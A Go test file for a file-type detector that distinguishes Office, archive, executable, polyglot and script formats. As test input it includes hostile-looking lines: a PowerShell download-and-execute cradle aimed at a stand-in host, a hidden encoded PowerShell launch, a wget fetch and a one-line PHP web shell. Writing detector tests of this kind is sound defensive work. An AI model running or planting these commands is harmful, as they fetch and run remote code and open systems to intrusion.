package main

import (
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

func namesOf(content string) []string {
	var out []string
	for _, k := range newDetector().look(inMemory([]byte(content))) {
		out = append(out, k.name)
	}
	return out
}

func TestFormatsAreToldApart(t *testing.T) {
	const word, sheet, slides = "vnd.openxmlformats-officedocument.wordprocessingml.", "vnd.openxmlformats-officedocument.spreadsheetml.",
		"vnd.openxmlformats-officedocument.presentationml."
	open := func(kind string) string {
		return zipWith(t, map[string]string{"mimetype": "application/vnd.oasis.opendocument." + kind, "content.xml": "x"})
	}
	zeros := func(n int) string { return strings.Repeat("\x00", n) }
	table := "\u4840\u3b3f"
	tests := []struct {
		name, content string
		want          string // all names
	}{
		{"docx", office(t, word+"document.main"), "docx"},
		{"dotx", office(t, word+"template.main"), "dotx"},
		{"docm", office(t, "vnd.ms-word.document.macroEnabled.main", "word/vbaProject.bin"), "docm macro"},
		{"dotm", office(t, "vnd.ms-word.template.macroEnabledTemplate.main"), "dotm"},
		{"docx with macros hidden", office(t, word+"document.main", "word/vbaProject.bin"), "docm macro"},
		{"xlsx", office(t, sheet+"sheet.main"), "xlsx"},
		{"xlsm", office(t, "vnd.ms-excel.sheet.macroEnabled.main", "xl/vbaProject.bin"), "xlsm macro"},
		{"xlsb", office(t, "vnd.ms-excel.sheet.binary.macroEnabled.main"), "xlsb"},
		{"pptx", office(t, slides+"presentation.main"), "pptx"},
		{"ppsm", office(t, "vnd.ms-powerpoint.slideshow.macroEnabled.main", "ppt/vbaProject.bin"), "ppsm macro"},
		{"visio", office(t, "vnd.ms-visio.drawing.main"), "vsdx"},
		{"xps", office(t, "vnd.ms-package.xps-fixeddocumentsequence"), "xps"},
		{"office without its list", zipWith(t, map[string]string{"word/document.xml": "x"}), "docx"},
		{"odt", open("text"), "odt"}, {"ods", open("spreadsheet"), "ods"}, {"odp", open("presentation"), "odp"},
		{"epub", zipWith(t, map[string]string{"mimetype": "application/epub+zip"}), "epub"},
		{"jar", zipWith(t, map[string]string{"META-INF/MANIFEST.MF": "x", "A.class": "x"}), "jar"},
		{"apk", zipWith(t, map[string]string{"AndroidManifest.xml": "x", "META-INF/MANIFEST.MF": "x"}), "apk"},
		{"zip", zipWith(t, map[string]string{"a.docx": "x"}), "zip"},
		{"zip cut off", zipWith(t, map[string]string{"word/document.xml": strings.Repeat("x", 9), "z": "x"})[:60], "docx"},
		{"doc", ole("", "WordDocument", "1Table"), "doc"},
		{"doc with macros", ole("", "WordDocument", "Macros", "VBA"), "doc macro"},
		{"xls", ole("", "Workbook"), "xls"}, {"old xls", ole("", "Book"), "xls"}, {"ppt", ole("", "PowerPoint Document"), "ppt"},
		{"doc of many streams", ole("", "a", "b", "c", "d", "e", "f", "g", "WordDocument"), "doc"},
		{"visio before 2013", ole("", "VisioDocument"), "vsd"}, {"msg", ole("", "__properties_version1.0"), "msg"},
		{"sealed office", ole("", "EncryptionInfo", "EncryptedPackage"), "ooxml-encrypted"},
		{"msi", ole("\x84\x10\x0c\x00", table), "msi"}, {"patch", ole("\x86\x10\x0c\x00", table), "msp"},
		{"msi without its class", ole("", table+"a", table+"b", table+"c"), "msi"},
		{"doc that calls itself msi", ole("\x84\x10\x0c\x00", "WordDocument"), "doc"},
		{"compound file", ole("", "a"), "ole"}, {"compound file cut off", ole("", "a")[:300], "ole"},
		{"onenote", "\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + zeros(64), "one"},
		{"shortcut", "\x4c\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00\x46" + zeros(64), "lnk"},
		{"internet shortcut", "[InternetShortcut]\r\nURL=https://host.example/\r\n", "url"},
		{"iso", zeros(0x8001) + "CD001\x01" + zeros(2048), "iso"}, {"udf", zeros(0x8001) + "BEA01\x01" + zeros(2048), "udf"},
		{"dll", pe(0x2102), "dll exe"}, {"exe", pe(0x0102), "exe"}, {"text in capitals", "MZ is a place\n", "txt"},
		{"class", "\xca\xfe\xba\xbe\x00\x00\x00\x34" + zeros(20), "class"}, {"macho for several", "\xca\xfe\xba\xbe\x00\x00\x00\x02" + zeros(40), "macho"},
		{"com", "\xe9\x10\x00hello\xb4\x4c\x00\xcd\x21", "com"},
		{"eps", "\xc5\xd0\xd3\xc6" + zeros(40), "eps"}, {"ps", "%!PS-Adobe-3.0\n", "ps"}, {"chm", "ITSF\x03\x00\x00\x00" + zeros(40), "chm"},
		{"rtf", "{\\rtf1 hello}", "rtf"}, {"rtf with a broken head", "{\\rtx hello}", "rtf"}, {"pdf behind noise", zeros(100) + "%PDF-1.4\n", "pdf"},
		{"tnef", "\x78\x9f\x3e\x22\x01\x00\x06" + zeros(20), "tnef"},
		{"dmg", zeros(70000) + "koly" + zeros(508), "dmg"},
		{"lzma", "\x5d\x00\x00\x80\x00\xff\xff\xff\xff\xff\xff\xff\xff\x00" + zeros(20), "lzma"},
		{"html", "<!-- x --><HTML><body>", "html"}, {"html fragment", "<div class=x>hello</div>", "html"},
		{"svg", "<?xml version=\"1.0\"?><!-- x --><svg xmlns=x>", "svg"}, {"xml", "<?xml version=\"1.0\"?><a/>", "xml"},
		{"word as xml", "<?xml version=\"1.0\"?><?mso-application progid=\"Word.Document\"?><w:wordDocument/>", "doc"},
		{"mail", "Received: from a\r\nFrom: a@b.example\r\nSubject: x\r\n\r\nhello", "eml"},
		{"mailbox", "From a@b.example Thu Jul 31 13:49:50 2008\nFrom: a@b.example\nSubject: x\n\nhello", "mbox"},
		{"page as mail", "From: <Saved by a browser>\r\nSubject: x\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related;\r\n\r\n", "mht"},
		{"text with a colon", "Note: this is it\nTo: do\n", "txt"},
		{"empty", "", "unknown"},
		// What fits several types has all of them.
		{"program with a zip behind", pe(0x0102) + zipWith(t, map[string]string{"a": "x"}), "exe zip"},
		{"program with a rar behind", pe(0x0102) + "Rar!\x1a\x07\x01\x00", "exe rar"},
		{"picture with a zip behind", "GIF89a" + zeros(60) + zipWith(t, map[string]string{"a": "x"}), "gif zip"},
		{"picture with a rar behind", "GIF89a" + zeros(60) + "Rar!\x1a\x07\x00" + zeros(20), "gif rar"},
		{"pdf in front of a far zip", "%PDF-1.4\n" + zeros(200000) + zipWith(t, map[string]string{"a": "x"}), "pdf zip"},
		{"program in front of a pdf", pe(0x0102)[:900] + "%PDF-1.4\n" + zeros(400), "exe pdf"},
		{"encoded script", "#@~^EAAAAA==Y4kdP\x7f...^#~@", "jse vbe"},
	}
	for _, test := range tests {
		if diff := cmp.Diff(test.want, strings.Join(namesOf(test.content), " ")); diff != "" {
			t.Errorf("%s: %s", test.name, diff)
		}
	}
}

func TestScriptsAreReadNotBelieved(t *testing.T) {
	prose := strings.Repeat("And then we went to the town and had a long look at the harbour.\n", 12)
	tests := []struct{ name, content, want string }{
		{"js", "var a = 1;\nfunction f(b) {\n  return b === a;\n}\n", "js"},
		{"js in one line", `(function(){var q=String.fromCharCode(119,115);eval(q)})();`, "js"},
		{"js behind a comment", "/*\n * " + strings.Repeat("a line of a licence\n * ", 9) + "\n */\nvar sh = new ActiveXObject('WScript.Shell');\n", "js"},
		{"js behind a long comment", strings.Repeat("// nothing here is of any use\n", 1000) + "var sh = new ActiveXObject('WScript.Shell');\n", "js"},
		{"js behind a long text in a comment", "/*\n" + prose + prose + "*/\nvar sh = new ActiveXObject('WScript.Shell');\n", "js"},
		{"js in front of a long comment", "var sh = new ActiveXObject('WScript.Shell');\n/*\n" + prose + prose + "*/\n", "js"},
		{"js behind comments of 100 KB", strings.Repeat("// nothing here is of any use\n", 3500) + "var sh = new ActiveXObject('WScript.Shell');\n", "js"},
		{"bat that begins as a comment of another language", "/*\r\n@echo off\r\nstart calc\r\n", "bat"},
		{"vbs", "Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n", "vbs"},
		{"vbs in UTF-16", utf16LE("Dim s\r\nSet s = CreateObject(\"WScript.Shell\")\r\ns.Run \"calc\"\r\n"), "vbs"},
		{"vba", "Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nMsgBox \"x\"\r\nEnd Sub\r\n", "vba"},
		{"ps1", "$c = New-Object Net.WebClient\n$c.DownloadFile('http://host.example/a','a')\n", "ps1"},
		{"ps1 in one line", "IEX(New-Object Net.WebClient).DownloadString('http://host.example/a')", "ps1"},
		{"bat", "@echo off\r\nset A=1\r\nstart calc\r\n", "bat"},
		{"cmd that starts another", "powershell -nop -w hidden -enc AAAA\r\n", "bat"},
		{"bat without echo", "setlocal\r\nif exist %TEMP%\\a del /q %TEMP%\\a\r\nexit /b 1\r\n", "bat"},
		{"sh", "#!/bin/sh\nls\n", "sh"}, {"sh without a first line", "export A=1\nif [ -f x ]; then\n  wget http://host.example/x\nfi\n", "sh"},
		{"python", "import os\nfrom sys import argv\n\ndef main():\n    os.system('ls')\n", "py"},
		{"python by its first line", "#!/usr/bin/env python3\npass\n", "py"},
		{"perl", "use strict;\nuse warnings;\nmy $a = shift;\nprint \"$a\";\n", "pl"},
		{"php", "<html><?php system($_GET['c']); ?>", "php html"}, {"php alone", "<?php echo 1;", "php"},
		{"ruby", "require 'net/http'\n[1].each do |x|\n  puts x\nend\n", "rb"},
		{"wsf", "<job id=\"a\"><script language=\"VBScript\">x</script></job>", "wsf"},
		{"hta", "<html><HTA:APPLICATION id=a></html>", "hta html"},
		{"page for mshta", "<html><script>new ActiveXObject('WScript.Shell').Run('calc')</script>", "html hta"},
		{"sct", "<?xml version=\"1.0\"?><scriptlet><registration/></scriptlet>", "sct"},
		{"page with a script", "<html><script>var a = function() { return 1; }</script>", "html"},
		{"a letter about code", prose + "var a = 1;\nfunction f() {\n  return a;\n}\n" + prose, "txt"},
		{"a letter with a command", prose + "powershell -nop -w hidden -enc AAAA\n" + prose, "txt"},
		{"a letter", "Dear all,\nplease start the work and set the date, then call me.\nIf not, echo what I said.\n\nBob\n", "txt"},
		{"a list", "- call Bob\n- set up the room\n- echo test\n- start at 9\n", "txt"},
		{"settings", "[a]\nname = b\nset = c\n", "txt"}, {"numbers", "a,b\n1,2\n3,4\n", "csv"}, {"json", `{"function": "x", "var": [1, 2]}`, "json"},
	}
	for _, test := range tests {
		if diff := cmp.Diff(test.want, strings.Join(namesOf(test.content), " ")); diff != "" {
			t.Errorf("%s: %s", test.name, diff)
		}
	}
}

func TestEveryWordOfTheVocabularyHasOneCategory(t *testing.T) {
	seen := map[string]string{}
	for category, list := range members() {
		for member := range strings.FieldsSeq(list) {
			if other, twice := seen[member]; twice {
				t.Errorf("%s is %s and %s", member, other, category)
			}
			seen[member] = category
		}
	}
	for alias, name := range aliases() {
		if seen[name] == "" {
			t.Errorf("%s stands for %s, which is in no category", alias, name)
		}
	}
	for _, m := range append(magics(), tailMagics()...) {
		if seen[m.name] == "" && seen[aliases()[m.name]] == "" {
			t.Errorf("the mark of %s is known, and its category is not", m.name)
		}
	}
}
